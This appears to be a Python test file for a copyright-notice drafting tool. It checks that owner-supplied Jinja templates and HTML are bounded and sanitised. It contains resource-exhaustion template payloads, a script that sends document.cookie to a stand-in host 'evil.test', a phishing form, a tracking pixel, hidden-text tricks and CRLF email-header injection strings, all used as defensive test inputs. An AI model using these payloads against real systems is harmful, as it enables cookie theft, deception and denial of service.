"""Hostile owner templates: every render is bounded, and the HTML sent is the HTML reviewed.

Each hostile template here exhausted memory, hung, or raised a raw
RecursionError before the render budget (notices.budget); each must now be
refused with a TemplateRejected that names its line, through the gate (the
CLI's ``notices template``) and again at draft time on real facts.
"""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from config.settings import NoticeSettings
from notices.budget import RenderBudget, metered
from notices.drafting import TEMPLATE_FAILED, draft_for_match, save_owner_template
from notices.errors import TemplateRejected
from notices.evidence import build_bundle
from notices.render import TEMPLATE_DIR, check_template, render_notice
from notices.sanitise import disallowed_markup, safe_html
from storage.blobs import FolderBlobStore
from storage.db import session_scope
from storage.models import AuditEvent, NoticeTemplate

from . import factory as f

SETTINGS = NoticeSettings()
DMCA_TEXT = (TEMPLATE_DIR / "dmca.txt.j2").read_text()
DMCA_HTML = (TEMPLATE_DIR / "dmca.html.j2").read_text()

# Each is line 2 of a template whose line 1 is "Notice"; the comment says what it did before.
HOSTILE = {
    "folded repetition": "{{ 'x' * 10**9 }}",  # folded at compile time: MemoryError while compiling
    "literal repetition": "{{ 'x' * 1000000000 }}",
    "repetition of a fact": "{{ notifier.name * 10**8 }}",
    "integer power": "{{ 7 ** 100000000 }}",  # hangs computing a 280-million-bit number
    "center filter": "{{ notifier.name|center(10**9) }}",
    "center filter, constant": "{{ 'x'|center(1000000000) }}",  # folded at compile time
    "str.center": "{{ notifier.name.center(10**9) }}",
    "format filter width": "{{ '%999999999s'|format(1) }}",
    "format filter star": "{{ '%*s'|format(999999999, 1) }}",
    "percent operator": "{{ '%999999999s' % 1 }}",
    "indent filter": "{{ notifier.name|indent(10**9, true) }}",
    "indent of many lines": "{{ ((notifier.name ~ '\\n') * 1000)|indent(10**6) }}",
    "wordwrap filter": "{{ ('x ' * 400000)|wordwrap(1, wrapstring='y' * 1000) }}",
    "truncate filter": "{{ ('x' * 900000)|truncate(10**9, end='y' * 900000) }}",
    "replace filter": "{{ ('x' * 1000)|replace('', 'y' * 10000) }}",
    "join filter": "{{ (items * 100)|join('x' * 100000) }}",
    "str.join": "{{ ('x' * 100000).join(['y'] * 100000) }}",
    "batch filter": "{{ items|batch(10**9, 'x')|list }}",
    "slice filter": "{{ items|slice(10**9)|list }}",
    "nested loops": "{% for a in items * 1000 %}{% for b in items * 1000 %}{% for c in items * 1000 %}x"
                    "{% endfor %}{% endfor %}{% endfor %}",  # 8e9 iterations: a hang
    "static output in a loop": "{% for i in items * 100000 %}" + "z" * 50 + "{% endfor %}",
    "macro recursion": "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",  # raw RecursionError
    "doubling macro": "{% macro f(s) %}{{ f(s ~ s) }}{% endmacro %}{{ f('x') }}",  # MemoryError
    "loop recursion": "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",  # raw RecursionError
    "range": "{{ range(10**9)|list }}",
    "bytes repetition": "{{ (notifier.name.encode() * 10**9)|length }}",
    "list of a big list": "{{ [[notifier.name] * 10**4] * 10**4 }}",  # str() of it: 2e9 characters
    "literal of references": "{% set x = notifier.name * 50000 %}{{ [" + "x, " * 100 + "] }}",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_template_is_refused_at_the_gate_naming_the_line(name: str) -> None:
    with pytest.raises(TemplateRejected) as info:
        check_template("dmca", "text", "Notice\n" + HOSTILE[name] + "\n" + DMCA_TEXT)
    assert info.value.lineno == 2, str(info.value)
    assert "line 2:" in str(info.value)
    assert "over budget" in str(info.value) or "not available" in str(info.value)


def test_str_translate_is_not_available() -> None:
    # One character mapped to a long string, over a long string: unbounded in one call.
    with pytest.raises(TemplateRejected, match=r"line 2: unsafe construct: .*translate"):
        check_template("dmca", "text", "Notice\n{{ ('x' * 10**5).translate({120: 'y' * 10**5})|length }}\n"
                       + DMCA_TEXT)


def test_unpacking_and_literals_still_work_under_the_budget() -> None:
    source = ("{% for a, b in [(1, 2)] %}{{ a }}{% endfor %}{% set c, d = 'x', {'k': [1]} %}{{ c }}{{ d.k }}\n"
              + DMCA_TEXT)
    check_template("dmca", "text", source)
    assert render_notice(_content(), {"text": source}).text.startswith("1x[1]\n")


def test_expressions_nested_too_deeply_to_compile_are_refused() -> None:
    with pytest.raises(TemplateRejected, match="nests its expressions or blocks too deeply"):
        check_template("dmca", "text", "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}\n" + DMCA_TEXT)


def test_oversized_source_is_refused() -> None:
    with pytest.raises(TemplateRejected, match="characters long; the limit is 100000"):
        check_template("dmca", "text", DMCA_TEXT + "x" * 100_001)


def test_time_budget_ends_a_render() -> None:
    # Steps and sizes bound everything above; the clock is the last resort.
    with pytest.raises(TemplateRejected, match=r"line 1: over budget: over the render budget of 0 s"), \
            metered(RenderBudget(seconds=0.0)):
        render_notice(_content(), {"text": "{% for w in works %}{{ w.title }}{% endfor %}\n" + DMCA_TEXT})


def _content() -> Any:
    from notices.content import sample_content

    return sample_content("dmca")


def test_bundled_templates_render_within_budget_for_a_large_notice() -> None:
    import dataclasses

    c = _content()
    c = dataclasses.replace(c, items=c.items * 250)  # 500 items: a very large notice
    r = render_notice(c, {"text": DMCA_TEXT, "html": DMCA_HTML})
    assert r.text.count("https://host.example/img/sample-1.png") == 250


def test_hostile_template_is_refused_by_the_cli(sqlite_sessions: Any, tmp_path: Path) -> None:
    from notices.cli import notices_group

    with session_scope(sqlite_sessions) as s:
        f.owner(s)
    source = tmp_path / "evil.j2"
    source.write_text("Notice\n" + HOSTILE["nested loops"] + "\n" + DMCA_TEXT)
    obj = type("Obj", (), {"sessions": sqlite_sessions})()
    result = CliRunner().invoke(notices_group, ["template", "ada@artist.test", "dmca", "text", str(source)],
                                obj=obj)
    assert result.exit_code != 0
    assert "line 2: over budget" in result.output and "steps" in result.output
    with session_scope(sqlite_sessions) as s:
        assert s.scalar(select(NoticeTemplate)) is None


# Passes the gate on the two sample items; on three real items it loops 8e9 times.
ONLY_ON_REAL_DATA = ("{% if items|length > 2 %}{% for a in items * 2000 %}{% for b in items * 2000 %}"
                     "{% for c in items * 2000 %}x{% endfor %}{% endfor %}{% endfor %}{% endif %}\n"
                     + DMCA_TEXT.replace("To the designated", "Dear designated"))


def test_template_over_budget_on_real_facts_leaves_a_notice_the_reviewer_can_read(sessions: Any) -> None:
    with session_scope(sessions) as s:
        acc = f.owner(s)
        save_owner_template(s, acc.id, "dmca", "text", ONLY_ON_REAL_DATA, "ada@artist.test")  # gate passes
        w = f.work(s, acc)
        matches = [f.match(s, f.upload(s, f"https://i.imgur.com/{k}.png"), w).id for k in range(3)]
    for m in matches[:2]:
        with session_scope(sessions) as s:
            n = draft_for_match(s, m, SETTINGS)
            assert n is not None and TEMPLATE_FAILED not in n.flags
            assert n.body_text.startswith("Dear designated")  # the owner's template
    with session_scope(sessions) as s:
        n = draft_for_match(s, matches[2], SETTINGS)  # the third item: over budget, not a hang
        assert n is not None
        assert TEMPLATE_FAILED in n.flags
        assert "https://i.imgur.com/2.png" in n.body_text  # drafted with the bundled template
        assert n.body_text.startswith("To the designated")
        nid = n.id
    with session_scope(sessions) as s:
        events = list(s.scalars(select(AuditEvent).where(AuditEvent.action == TEMPLATE_FAILED,
                                                         AuditEvent.entity_id == nid)))
        assert len(events) == 1
        assert "line 1: over budget" in events[0].detail["reason"]


# -- HTML: the reviewer sees what is sent --------------------------------------

SNEAKY = {
    "<script>": "<script>fetch('https://evil.test/?'+document.cookie)</script>",
    "<img>": '<img src="https://tracker.test/open.gif" width="1" height="1">',
    "<form>": '<form action="https://evil.test/pay"><input name="card"></form>',
    "a javascript: link": '<a href="javascript:alert(1)">details</a>',
    "the 'hidden' attribute on <p>": "<p hidden>You also agree to pay 500 EUR.</p>",
    "the 'style' attribute on <p>": '<p style="display:none">Extra demand</p>',
    "<style>": "<style>p { color: white }</style>",
}


@pytest.mark.parametrize("what", list(SNEAKY))
def test_html_template_with_content_beyond_the_safe_subset_is_refused(what: str) -> None:
    source = DMCA_HTML.replace("<body>", "<body>\n" + SNEAKY[what])
    with pytest.raises(TemplateRejected, match="the HTML uses") as info:
        check_template("dmca", "html", source)
    assert what in str(info.value)


def test_stored_html_is_sanitised_before_storing_sending_and_bundling(sqlite_sessions: Any, tmp_path: Path) -> None:
    # A template stored before the gate knew better (written straight to the table).
    sneaky = DMCA_HTML.replace("<body>", "<body>\n" + "\n".join(SNEAKY.values()))
    assert disallowed_markup(sneaky)
    blobs = FolderBlobStore(tmp_path / "blobs")
    with session_scope(sqlite_sessions) as s:
        acc = f.owner(s)
        s.add(NoticeTemplate(owner_id=acc.id, law="dmca", variant="html", source=sneaky))
        m = f.match(s, f.upload(s, "https://i.imgur.com/s.png", blobs=blobs), f.work(s, acc, blobs=blobs)).id
    with session_scope(sqlite_sessions) as s:
        n = draft_for_match(s, m, SETTINGS)
        assert n is not None
        stored = n.body_html
        bundle = zipfile.ZipFile(BytesIO(build_bundle(s, blobs, n.id))).read("notice.html").decode()
    for html in (stored, bundle):
        assert disallowed_markup(html) == [], html
        for needle in ("<script", "tracker.test", "<form", "javascript:", "hidden", "style"):
            assert needle not in html
        assert "You also agree to pay 500 EUR." in html  # no longer hidden: the reviewer sees it too
        assert 'href="https://i.imgur.com/s.png"' in html
    assert safe_html(stored) == stored


def test_crawled_non_web_page_url_is_never_a_link_in_a_notice(sqlite_sessions: Any) -> None:
    with session_scope(sqlite_sessions) as s:
        acc = f.owner(s)
        m = f.match(s, f.upload(s, "https://i.imgur.com/j.png", "javascript:alert(document.domain)"),
                    f.work(s, acc)).id
    with session_scope(sqlite_sessions) as s:
        n = draft_for_match(s, m, SETTINGS)
        assert n is not None
        assert "javascript:" not in n.body_html and "javascript:" not in n.body_text
        assert 'href="https://i.imgur.com/j.png"' in n.body_html


def test_crlf_in_a_crawled_url_never_reaches_a_notice(sqlite_sessions: Any) -> None:
    from notices.errors import DraftingBlocked

    with session_scope(sqlite_sessions) as s:
        acc = f.owner(s)
        w = f.work(s, acc)
        forged = f.match(s, f.upload(s, "https://i.imgur.com/a.png\r\nBcc: victim@example.com"), w).id
        page = f.match(s, f.upload(s, "https://i.imgur.com/b.png", "https://imgur.com/p\r\nX-Evil: 1"), w).id
    with session_scope(sqlite_sessions) as s, pytest.raises(DraftingBlocked, match="not a web address"):
        draft_for_match(s, forged, SETTINGS)
    with session_scope(sqlite_sessions) as s:
        n = draft_for_match(s, page, SETTINGS)
        assert n is not None
        for body in (n.body_text, n.body_html, n.subject):
            assert "\r" not in body and "X-Evil" not in body
